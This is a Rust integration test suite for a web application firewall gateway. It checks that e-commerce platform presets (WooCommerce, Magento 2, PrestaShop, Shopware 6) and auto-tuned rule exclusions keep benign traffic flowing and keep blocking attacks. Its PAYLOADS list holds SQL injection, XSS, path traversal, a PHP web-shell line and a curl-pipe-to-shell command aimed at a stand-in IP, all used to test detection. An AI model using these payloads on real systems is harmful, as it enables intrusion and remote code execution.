//! Store platform presets through the real gateway (`rampart serve` with
//! the OWASP CRS 4.28.0), at paranoia 1 and 2, for every preset:
//!
//! - the preset's benign traffic fixture (`crates/gateway/presets/
//!   fixtures/NAME.http`) is never blocked;
//! - the same traffic with attack payloads placed in its query arguments,
//!   form and JSON fields and cookies is blocked at least wherever the bare
//!   CRS blocks it (no drop in detection), and the bare CRS blocks nearly
//!   all of it (the attacks are real);
//! - `rampart waf tune --apply`, run on the detect-mode audit log of the
//!   benign fixture without the preset, writes exclusions under which the
//!   benign traffic passes and no attack the bare CRS blocks gets through.

mod common;

use std::collections::BTreeSet;
use std::net::SocketAddr;
use std::path::{Path, PathBuf};
use std::time::Duration;

use common::*;
use http::Request;

fn crs() -> PathBuf {
    let p = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/crs-4.28.0");
    assert!(p.is_dir(), "missing {} (the shared CRS)", p.display());
    std::fs::canonicalize(p).unwrap()
}

fn fixture_path(preset: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../gateway/presets/fixtures")
        .join(format!("{preset}.http"))
}

/// One request of a fixture.
#[derive(Debug, Clone)]
struct Req {
    name: String,
    method: String,
    target: String,
    headers: Vec<(String, String)>,
    body: String,
}

/// Parses a fixture: `### name` starts a request, then the request line,
/// headers, a blank line and the body up to the next `###`.
fn parse_fixture(text: &str) -> Vec<Req> {
    let mut out = Vec::new();
    for block in text.split("\n### ").skip(1) {
        let mut lines = block.lines();
        let name = lines.next().unwrap().trim().to_string();
        let request_line = lines.next().expect("request line");
        let mut parts = request_line.split_whitespace();
        let method = parts.next().unwrap().to_string();
        let target = parts.next().unwrap().to_string();
        let mut headers = Vec::new();
        for line in lines.by_ref() {
            if line.trim().is_empty() {
                break;
            }
            let (k, v) = line.split_once(':').expect("header line");
            headers.push((k.trim().to_string(), v.trim().to_string()));
        }
        let body = lines.collect::<Vec<_>>().join("\n").trim().to_string();
        out.push(Req {
            name,
            method,
            target,
            headers,
            body,
        });
    }
    assert!(out.len() >= 12, "a fixture needs realistic breadth");
    out
}

const PAYLOADS: &[&str] = &[
    "1' UNION SELECT username, password FROM users--",
    "<script>alert(document.cookie)</script>",
    ";cat /etc/passwd",
    "../../../../etc/passwd",
    "x' OR '1'='1' -- ",
    "<img src=x onerror=alert(1)>",
    "<?php system($_GET['c']); ?>",
    "$(curl http://203.0.113.9/x.sh|sh)",
];

fn pct(s: &str) -> String {
    let mut out = String::new();
    for b in s.bytes() {
        if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
            out.push(b as char);
        } else {
            out.push_str(&format!("%{b:02X}"));
        }
    }
    out
}

/// Replaces the value of the `idx % n`-th `k=v` pair of `s` (split by
/// `sep`) with `value`; `None` when there is none.
fn replace_pair(s: &str, sep: &str, idx: usize, value: &str) -> Option<String> {
    let pairs: Vec<&str> = s.split(sep).collect();
    let with_value: Vec<usize> = (0..pairs.len())
        .filter(|i| pairs[*i].contains('='))
        .collect();
    if with_value.is_empty() {
        return None;
    }
    let at = with_value[idx % with_value.len()];
    let mut out: Vec<String> = pairs.iter().map(|p| p.to_string()).collect();
    let key = pairs[at].split_once('=').unwrap().0;
    out[at] = format!("{key}={value}");
    Some(out.join(sep))
}

/// Replaces the `idx % n`-th string value of a JSON document.
fn replace_json(body: &str, idx: usize, value: &str) -> Option<String> {
    let mut v: serde_json::Value = serde_json::from_str(body).ok()?;
    fn nth(v: &mut serde_json::Value, n: &mut usize, value: &str) -> bool {
        match v {
            serde_json::Value::String(s) => {
                if *n == 0 {
                    *s = value.to_string();
                    return true;
                }
                *n -= 1;
                false
            }
            serde_json::Value::Array(a) => a.iter_mut().any(|x| nth(x, n, value)),
            serde_json::Value::Object(o) => o.values_mut().any(|x| nth(x, n, value)),
            _ => false,
        }
    }
    fn count(v: &serde_json::Value) -> usize {
        match v {
            serde_json::Value::String(_) => 1,
            serde_json::Value::Array(a) => a.iter().map(count).sum(),
            serde_json::Value::Object(o) => o.values().map(count).sum(),
            _ => 0,
        }
    }
    let total = count(&v);
    if total == 0 {
        return None;
    }
    let mut n = idx % total;
    nth(&mut v, &mut n, value);
    Some(v.to_string())
}

fn header<'a>(r: &'a Req, name: &str) -> Option<&'a str> {
    r.headers
        .iter()
        .find(|(k, _)| k.eq_ignore_ascii_case(name))
        .map(|(_, v)| v.as_str())
}

/// The fixture's traffic with attack payloads placed in it: for every
/// request, one variant per place it has (a query argument, a form or
/// JSON field, a cookie), the payloads and fields taken in turn.
fn attacks(benign: &[Req]) -> Vec<Req> {
    let mut out = Vec::new();
    let mut turn = 0usize;
    let mut next = || {
        turn += 1;
        turn
    };
    for (i, r) in benign.iter().enumerate() {
        // Query argument.
        if let Some((path, query)) = r.target.split_once('?') {
            let t = next();
            let p = PAYLOADS[t % PAYLOADS.len()];
            if let Some(q) = replace_pair(query, "&", i + t, &pct(p)) {
                let mut a = r.clone();
                a.name = format!("{} [query: {p}]", r.name);
                a.target = format!("{path}?{q}");
                out.push(a);
            }
        }
        // Body field.
        if !r.body.is_empty() {
            let t = next();
            let p = PAYLOADS[t % PAYLOADS.len()];
            let ct = header(r, "content-type").unwrap_or("");
            let body = if ct.starts_with("application/json") {
                replace_json(&r.body, i + t, p)
            } else {
                replace_pair(&r.body, "&", i + t, &pct(p))
            };
            if let Some(body) = body {
                let mut a = r.clone();
                a.name = format!("{} [body: {p}]", r.name);
                a.body = body;
                out.push(a);
            }
        }
        // Cookie.
        if let Some(cookie) = header(r, "cookie") {
            let t = next();
            let p = PAYLOADS[t % PAYLOADS.len()];
            if let Some(c) = replace_pair(cookie, "; ", i + t, &pct(p)) {
                let mut a = r.clone();
                a.name = format!("{} [cookie: {p}]", r.name);
                for (k, v) in a.headers.iter_mut() {
                    if k.eq_ignore_ascii_case("cookie") {
                        *v = c.clone();
                    }
                }
                out.push(a);
            }
        }
    }
    out
}

/// The variables an exclusion text removes rules from (`ctl:
/// ruleRemoveTargetById=ID;TARGET`), plain names only.
fn excluded_targets(text: &str) -> BTreeSet<String> {
    let mut out = BTreeSet::new();
    for part in text.split("ctl:ruleRemoveTargetById=").skip(1) {
        let Some((_, rest)) = part.split_once(';') else {
            continue;
        };
        let target: String = rest
            .chars()
            .take_while(|c| !matches!(c, ',' | '"' | '\n' | ' '))
            .collect();
        if (target.starts_with("ARGS:") || target.starts_with("REQUEST_COOKIES:"))
            && !target.contains(":/")
        {
            out.insert(target);
        }
    }
    out
}

fn pct_decode(s: &str) -> String {
    let b = s.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'%' && i + 2 < b.len() {
            if let Ok(x) = u8::from_str_radix(&s[i + 1..i + 3], 16) {
                out.push(x);
                i += 3;
                continue;
            }
        }
        out.push(if b[i] == b'+' { b' ' } else { b[i] });
        i += 1;
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// Replaces the value of `name` in `s` (pairs split by `sep`, names
/// compared once decoded); `None` when `s` has no such pair.
fn replace_named(s: &str, sep: &str, name: &str, value: &str) -> Option<String> {
    let mut found = false;
    let out: Vec<String> = s
        .split(sep)
        .map(|p| match p.split_once('=') {
            Some((k, _)) if !found && pct_decode(k) == name => {
                found = true;
                format!("{k}={value}")
            }
            _ => p.to_string(),
        })
        .collect();
    found.then(|| out.join(sep))
}

/// Attacks aimed at the variables exclusions name: for each, the first
/// benign request that carries it, with every payload in its place.
fn attacks_on(benign: &[Req], targets: &BTreeSet<String>) -> Vec<Req> {
    let mut out = Vec::new();
    for target in targets {
        let (var, name) = target.split_once(':').unwrap();
        for r in benign {
            let mut variants = Vec::new();
            for p in PAYLOADS {
                let mut a = r.clone();
                a.name = format!("{} [{target}: {p}]", r.name);
                let placed = if var == "ARGS" {
                    let query = r.target.split_once('?').and_then(|(path, q)| {
                        replace_named(q, "&", name, &pct(p)).map(|q| format!("{path}?{q}"))
                    });
                    let form = !header(r, "content-type")
                        .unwrap_or("")
                        .starts_with("application/json");
                    match query {
                        Some(t) => {
                            a.target = t;
                            true
                        }
                        None if form => match replace_named(&r.body, "&", name, &pct(p)) {
                            Some(b) => {
                                a.body = b;
                                true
                            }
                            None => false,
                        },
                        None => false,
                    }
                } else {
                    match header(r, "cookie").and_then(|c| replace_named(c, "; ", name, &pct(p))) {
                        Some(c) => {
                            for (k, v) in a.headers.iter_mut() {
                                if k.eq_ignore_ascii_case("cookie") {
                                    *v = c.clone();
                                }
                            }
                            true
                        }
                        None => false,
                    }
                };
                if placed {
                    variants.push(a);
                }
            }
            if !variants.is_empty() {
                out.extend(variants);
                break;
            }
        }
    }
    out
}

/// What the bare CRS blocks of `aimed` and `site` lets through.
async fn aimed_losses(addr: SocketAddr, site: &str, aimed: &[Req]) -> (usize, Vec<String>) {
    let bare = blocked(addr, "bare.test", aimed).await;
    let here = blocked(addr, site, aimed).await;
    (
        bare.len(),
        names(aimed, &bare.difference(&here).copied().collect()),
    )
}

/// Sends `r` to the site `host`; the response status.
async fn send(addr: SocketAddr, host: &str, r: &Req) -> u16 {
    let mut c = h1_client(addr, host).await;
    let mut b = Request::builder()
        .method(r.method.as_str())
        .uri(r.target.as_str())
        .header("host", host);
    let has = |n: &str| header(r, n).is_some();
    if !has("user-agent") {
        b = b.header(
            "user-agent",
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
        );
    }
    if !has("accept") {
        b = b.header(
            "accept",
            "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
        );
    }
    if !has("accept-language") {
        b = b.header("accept-language", "en-GB,en;q=0.9");
    }
    for (k, v) in &r.headers {
        if !k.eq_ignore_ascii_case("host") {
            b = b.header(k.as_str(), v.as_str());
        }
    }
    let req = b.body(body(r.body.clone())).unwrap();
    let resp = collect(c.send_request(req).await.unwrap()).await;
    resp.status().as_u16()
}

/// Indexes of the requests the site blocked (403).
async fn blocked(addr: SocketAddr, host: &str, reqs: &[Req]) -> BTreeSet<usize> {
    let mut out = BTreeSet::new();
    for (i, r) in reqs.iter().enumerate() {
        let status = send(addr, host, r).await;
        assert!(status < 500, "{host}: {} answered {status}", r.name);
        if status == 403 {
            out.insert(i);
        }
    }
    out
}

fn names(reqs: &[Req], set: &BTreeSet<usize>) -> Vec<String> {
    set.iter().map(|i| reqs[*i].name.clone()).collect()
}

/// What the audit log says about the blocked requests of `site`: uri,
/// rules and the variables they matched (for failure messages).
fn audit_summary(dir: &Path, site: &str) -> String {
    let mut out = String::new();
    for l in std::fs::read_to_string(dir.join("data/audit.jsonl"))
        .unwrap_or_default()
        .lines()
    {
        let v: serde_json::Value = serde_json::from_str(l).unwrap_or_default();
        if v["site"] != site || v["action"] != "block" {
            continue;
        }
        out.push_str(&format!(
            "\n  {} {}",
            v["method"].as_str().unwrap_or(""),
            v["uri"].as_str().unwrap_or("")
        ));
        for m in v["data"]["matches"].as_array().into_iter().flatten() {
            out.push_str(&format!("\n     {} {}", m["id"], m["targets"]));
        }
    }
    out
}

/// Audit lines of `site` so far.
fn audit_count(dir: &Path, site: &str) -> usize {
    std::fs::read_to_string(dir.join("data/audit.jsonl"))
        .unwrap_or_default()
        .lines()
        .filter(|l| l.contains(&format!("\"site\":\"{site}\"")))
        .count()
}

async fn check_preset(preset: &str, paranoia: u8) {
    let text = std::fs::read_to_string(fixture_path(preset)).unwrap();
    let benign = parse_fixture(&text);
    let attack = attacks(&benign);
    assert!(
        attack.len() >= 20,
        "{preset}: {} attack variants",
        attack.len()
    );

    let store = Store::start().await;
    let dir = tempfile::tempdir().unwrap();
    let crs = crs().display().to_string();
    let exclusions = dir.path().join("tuned.conf");
    let site = |name: &str, extra: &str, mode: &str, waf_extra: &str| {
        format!(
            "\n[[site]]\nname = \"{name}\"\nhosts = [\"{name}.test\"]\nupstream = \"http://{}\"\n\
             tls = {{ self_signed = true }}\n{extra}\n[site.waf]\ncrs = {crs:?}\nparanoia = {paranoia}\n\
             mode = \"{mode}\"\n{waf_extra}\n",
            store.addr
        )
    };
    let excl = format!("exclusions = {:?}", exclusions.display().to_string());
    let config = format!(
        "[server]\nhttps = \"127.0.0.1:0\"\ndata_dir = \"data\"\n{}{}{}{}",
        site("preset", &format!("platform = \"{preset}\""), "block", ""),
        site("bare", "", "block", ""),
        site("learn", "", "detect", &excl),
        site("tuned", "", "block", &excl),
    );
    let gw = Rampart::start(dir.path(), &config);

    // The preset never blocks its platform's real traffic.
    let preset_benign = blocked(gw.https, "preset.test", &benign).await;
    if !preset_benign.is_empty() {
        // Let the audit writer catch up, so the message names the rules.
        tokio::time::sleep(Duration::from_millis(1000)).await;
    }
    assert!(
        preset_benign.is_empty(),
        "{preset} PL{paranoia}: the preset blocked benign requests: {:?}{}",
        names(&benign, &preset_benign),
        audit_summary(dir.path(), "preset")
    );
    // The attacks are real: the bare CRS blocks nearly all of them.
    let bare_attacks = blocked(gw.https, "bare.test", &attack).await;
    let missed: BTreeSet<usize> = (0..attack.len())
        .filter(|i| !bare_attacks.contains(i))
        .collect();
    assert!(
        bare_attacks.len() * 10 >= attack.len() * 9,
        "{preset} PL{paranoia}: the bare CRS blocks only {}/{} attacks; missed {:?}",
        bare_attacks.len(),
        attack.len(),
        names(&attack, &missed)
    );
    // No drop in detection with the preset.
    let preset_attacks = blocked(gw.https, "preset.test", &attack).await;
    let lost: BTreeSet<usize> = bare_attacks.difference(&preset_attacks).copied().collect();
    assert!(
        lost.is_empty(),
        "{preset} PL{paranoia}: attacks the bare CRS blocks got through the preset: {:?}",
        names(&attack, &lost)
    );
    // Attacks aimed at the very variables the preset's exclusions name.
    let preset_text = std::fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR")).join(format!("../gateway/presets/{preset}.conf")),
    )
    .unwrap();
    let aimed = attacks_on(&benign, &excluded_targets(&preset_text));
    let (aimed_bare, lost) = aimed_losses(gw.https, "preset.test", &aimed).await;
    assert!(
        lost.is_empty(),
        "{preset} PL{paranoia}: attacks on the preset's excluded variables got through: {lost:?}"
    );
    // Without the preset, the CRS does block some of this traffic (else
    // the tuning half proves nothing) — at PL2 at least.
    let bare_benign = blocked(gw.https, "bare.test", &benign).await;

    // Learn in detect mode, then tune.
    let before = audit_count(dir.path(), "learn");
    let learn_blocks = blocked(gw.https, "learn.test", &benign).await;
    assert!(learn_blocks.is_empty(), "detect mode never blocks");
    // Wait for the audit writer to settle.
    let mut last = usize::MAX;
    for _ in 0..40 {
        tokio::time::sleep(Duration::from_millis(250)).await;
        let n = audit_count(dir.path(), "learn");
        if n == last && n > before {
            break;
        }
        last = n;
    }
    let cfg = dir.path().join("rampart.toml");
    let cfg = cfg.to_str().unwrap();
    let (code, listing, err) = run(&[
        "waf", "tune", "--config", cfg, "--site", "learn", "--since", "1h",
    ]);
    assert_eq!(code, 0, "tune: {err}");
    let (code, applied, err) = run(&[
        "waf", "tune", "--config", cfg, "--site", "learn", "--since", "1h", "--apply",
    ]);
    assert_eq!(code, 0, "tune --apply: {err}");
    let written = std::fs::read_to_string(&exclusions).unwrap_or_default();
    if !bare_benign.is_empty() {
        assert!(
            applied.contains("\n+SecRule") || applied.contains("\n+SecAction"),
            "{applied}"
        );
        // Scoped exclusions: a rule removed from a variable, or (for a
        // rule that matched nothing an exclusion can name, as 911100 on
        // the method) from one route only.
        assert!(
            written.contains("ctl:ruleRemoveTargetById=")
                || written
                    .lines()
                    .any(|l| l.starts_with("SecRule REQUEST_FILENAME")
                        && l.contains("ctl:ruleRemoveById=")),
            "{written}"
        );
    }
    // Never a blanket removal unless asked for.
    for line in written.lines() {
        assert!(
            !(line.contains("SecRuleRemoveById")
                || (line.starts_with("SecAction") && line.contains("ruleRemoveById"))),
            "blanket removal written without --remove-rule: {line}"
        );
    }
    // Applying again adds nothing.
    let (code, again, _) = run(&[
        "waf", "tune", "--config", cfg, "--site", "learn", "--since", "1h", "--apply",
    ]);
    assert_eq!(code, 0);
    assert!(again.contains("nothing to add"), "{again}");

    // The gateway reloads the exclusion file by itself.
    if !written.is_empty() {
        assert!(
            eventually(15, || gw.stderr().contains("a WAF rule file changed")).await,
            "the gateway did not reload the exclusion file: {}",
            gw.stderr()
        );
        assert!(
            eventually(15, || gw.stderr().matches("configuration reloaded").count()
                >= 1)
            .await,
            "{}",
            gw.stderr()
        );
    }
    let tuned_benign = blocked(gw.https, "tuned.test", &benign).await;
    assert!(
        tuned_benign.is_empty(),
        "{preset} PL{paranoia}: after tuning, still blocked: {:?}\nlisting:\n{listing}",
        names(&benign, &tuned_benign)
    );
    let tuned_attacks = blocked(gw.https, "tuned.test", &attack).await;
    let lost: BTreeSet<usize> = bare_attacks.difference(&tuned_attacks).copied().collect();
    assert!(
        lost.is_empty(),
        "{preset} PL{paranoia}: tuning lost detection of {:?}\nexclusions:\n{written}",
        names(&attack, &lost)
    );
    // And at the variables tuning excluded.
    let tuned_aimed = attacks_on(&benign, &excluded_targets(&written));
    let (tuned_aimed_bare, lost) = aimed_losses(gw.https, "tuned.test", &tuned_aimed).await;
    assert!(
        lost.is_empty(),
        "{preset} PL{paranoia}: attacks on the variables tuning excluded got through: {lost:?}\nexclusions:\n{written}"
    );
    eprintln!(
        "{preset} PL{paranoia}: aimed at excluded variables: preset {}/{} bare-blocked held, tuned {}/{} held",
        aimed_bare,
        aimed.len(),
        tuned_aimed_bare,
        tuned_aimed.len()
    );
    eprintln!(
        "{preset} PL{paranoia}: {} benign (bare CRS blocks {}, preset 0, tuned 0); {} attacks \
         (bare blocks {}, preset {}, tuned {}); tune wrote {} exclusion(s)",
        benign.len(),
        bare_benign.len(),
        attack.len(),
        bare_attacks.len(),
        preset_attacks.len(),
        tuned_attacks.len(),
        written.matches("\n# tune: ").count()
    );
    gw.stop();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn demo_pl1() {
    check_preset("demo", 1).await;
}
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn demo_pl2() {
    check_preset("demo", 2).await;
}
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn woocommerce_pl1() {
    check_preset("woocommerce", 1).await;
}
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn woocommerce_pl2() {
    check_preset("woocommerce", 2).await;
}
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn magento2_pl1() {
    check_preset("magento2", 1).await;
}
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn magento2_pl2() {
    check_preset("magento2", 2).await;
}
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn prestashop_pl1() {
    check_preset("prestashop", 1).await;
}
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn prestashop_pl2() {
    check_preset("prestashop", 2).await;
}
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn shopware6_pl1() {
    check_preset("shopware6", 1).await;
}
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn shopware6_pl2() {
    check_preset("shopware6", 2).await;
}

/// A CRS plugins directory (`plugins = DIR`) loads with a preset, in the
/// documented order: `*-before.conf` runs before the rules.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn plugins_directory_loads_with_a_preset() {
    let store = Store::start().await;
    let dir = tempfile::tempdir().unwrap();
    let plugins = dir.path().join("plugins");
    std::fs::create_dir_all(&plugins).unwrap();
    std::fs::write(
        plugins.join("shop-config.conf"),
        "SecAction \"id:9511000,phase:1,pass,nolog,t:none,setvar:tx.shop_plugin_enabled=1\"\n",
    )
    .unwrap();
    std::fs::write(
        plugins.join("shop-before.conf"),
        "SecRule TX:shop_plugin_enabled \"@eq 1\" \"id:9511100,phase:1,pass,nolog,t:none,chain\"\n\
         \x20   SecRule REQUEST_FILENAME \"@streq /plugin-docs\" \"t:none,ctl:ruleRemoveTargetById=941100-941399;ARGS:snippet\"\n",
    )
    .unwrap();
    let config = format!(
        "[server]\nhttps = \"127.0.0.1:0\"\ndata_dir = \"data\"\n\n[[site]]\nname = \"shop\"\nhosts = [\"localhost\"]\n\
         upstream = \"http://{}\"\ntls = {{ self_signed = true }}\nplatform = \"demo\"\n[site.waf]\ncrs = {:?}\n\
         plugins = {:?}\n",
        store.addr,
        crs().display().to_string(),
        plugins.display().to_string()
    );
    let gw = Rampart::start(dir.path(), &config);
    let snippet = "/plugin-docs?snippet=%3Cb%20onmouseover%3Dalert(1)%3Ehi%3C%2Fb%3E";
    let elsewhere = "/search?snippet=%3Cb%20onmouseover%3Dalert(1)%3Ehi%3C%2Fb%3E";
    assert_eq!(get(gw.https, "localhost", snippet).await.status(), 200);
    assert_eq!(get(gw.https, "localhost", elsewhere).await.status(), 403);
    // The preset still applies next to the plugin: a demo review with
    // everyday punctuation passes.
    gw.stop();
}

#[test]
fn config_rejects_an_unknown_platform() {
    let dir = tempfile::tempdir().unwrap();
    let f = dir.path().join("r.toml");
    std::fs::write(
        &f,
        "[server]\nhttps = \"127.0.0.1:0\"\n[[site]]\nhosts = [\"localhost\"]\nupstream = \"http://127.0.0.1:1\"\n\
         tls = { self_signed = true }\nplatform = \"oscommerce\"\n",
    )
    .unwrap();
    let (code, _, err) = run(&["config", "check", f.to_str().unwrap()]);
    assert_eq!(code, 2);
    assert!(
        err.contains("r.toml:7:") && err.contains("platform = \"oscommerce\": use one of"),
        "{err}"
    );
    assert_eq!(err.trim().lines().count(), 1, "{err}");
}
